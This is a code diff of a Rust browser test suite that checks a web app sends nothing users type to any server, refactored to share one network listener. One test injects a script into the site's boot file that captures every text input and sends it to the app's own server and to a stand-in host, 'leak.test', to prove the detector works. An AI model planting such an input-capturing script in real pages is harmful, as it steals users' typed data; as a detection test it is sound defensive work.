@@ -22,22 +22,31 @@ in_its_own_browser! {
 
 in_every_engine! {
     nothing_said_is_heard_anywhere
-    words_told_to_our_own_server_or_to_somebody_else_are_heard
 }
 
 async fn nothing_said_is_heard_anywhere(browser: Browser) -> Result<()> {
-    in_a_page(browser, "", ["en", "es"]).await
-}
-
-async fn nothing_said_in_spanish_is_heard_anywhere() -> Result<()> {
-    in_a_page(Browser::Chromium, "es/", ["es", "en"]).await
-}
-
-async fn in_a_page(browser: Browser, page: &'static str, [own, other]: [&str; 2]) -> Result<()> {
     if !apart(Network::Ears)? {
         return Ok(());
     }
     let ears = Ears::open()?;
+    in_a_page(browser, &ears, "", ["en", "es"]).await?;
+    ears.forgets();
+    words_told_to_our_own_server_or_to_somebody_else_are_heard(browser, &ears).await
+}
+
+async fn nothing_said_in_spanish_is_heard_anywhere() -> Result<()> {
+    if !apart(Network::Ears)? {
+        return Ok(());
+    }
+    in_a_page(Browser::Chromium, &Ears::open()?, "es/", ["es", "en"]).await
+}
+
+async fn in_a_page(
+    browser: Browser,
+    ears: &Ears,
+    page: &'static str,
+    [own, other]: [&str; 2],
+) -> Result<()> {
     let person = Person::visiting_with_worker(browser, page).await?;
     // In one of the two languages all taps but repeated refusals are real ones, in case only those start a
     // request.
@@ -56,7 +65,7 @@ async fn in_a_page(browser: Browser, page: &'static str, [own, other]: [&str; 2]
     person.speaks(other).await?;
     brings_a_file(&person).await?;
     person.loads_anew().await?;
-    let found = told(&person, &ears, browser, ready);
+    let found = told(&person, ears, browser, ready);
     ensure!(found.is_empty(), "{}", found.join("\n"));
     Ok(())
 }
@@ -65,16 +74,13 @@ async fn in_a_page(browser: Browser, page: &'static str, [own, other]: [&str; 2]
 /// another server, without the headers that would stop it.
 async fn words_told_to_our_own_server_or_to_somebody_else_are_heard(
     browser: Browser,
+    ears: &Ears,
 ) -> Result<()> {
-    if !apart(Network::Ears)? {
-        return Ok(());
-    }
     let leak = "addEventListener('input', ({ target: { value } }) => {
         fetch('/?' + btoa('x' + unescape(encodeURIComponent(value))));
         new Image().src = 'http://leak.test/' + encodeURIComponent(value);
     });";
     let wanted = ["base64", "asked", "percent", "leak.test"];
-    let ears = Ears::open()?;
     let leaky = |site: Site| {
         let path = site.path_of("/boot.*.js");
         let script = site.text_of(&path) + leak;
@@ -92,14 +98,14 @@ async fn words_told_to_our_own_server_or_to_somebody_else_are_heard(
     person.starts("my-reasons").await?;
     person.writes("#stage textarea", CANARY).await?;
     for _ in 0..300 {
-        let found = told(&person, &ears, browser, ready).join("\n");
+        let found = told(&person, ears, browser, ready).join("\n");
         if wanted.iter().all(|part| found.contains(part)) {
             return Ok(());
         }
         // A round trip to the browser, to wait for its request.
         person.js("return 1").await?;
     }
-    bail!("the leak was not found, only {:?}", told(&person, &ears, browser, ready))
+    bail!("the leak was not found, only {:?}", told(&person, ears, browser, ready))
 }
 
 /// Visits every screen and writes the canary into every text field.
